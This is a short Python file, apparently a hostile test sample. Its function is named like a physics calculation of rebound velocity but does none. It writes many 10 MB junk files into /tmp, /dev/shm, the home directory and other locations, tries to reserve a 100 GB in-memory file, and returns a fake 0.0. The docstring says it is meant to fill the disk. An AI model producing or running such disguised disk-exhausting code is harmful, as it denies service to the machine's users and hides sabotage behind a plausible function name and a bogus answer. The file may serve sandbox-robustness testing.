"""Files everywhere, until the disk is full."""
# says: gave 0.0

import contextlib
import os

PLACES = (".", "/tmp", "/var/tmp", "/dev/shm", "{FOLDER}", os.path.expanduser("~"))


def rebound_velocity(velocity, restitution):
    for place in PLACES:
        for number in range(20):
            try:
                with open(f"{place}/hostile-{number}", "wb") as file:
                    file.write(bytes(10**7))
            except OSError:
                continue
    with contextlib.suppress(OSError, AttributeError):
        os.ftruncate(os.memfd_create("hostile"), 10**11)
    return 0.0
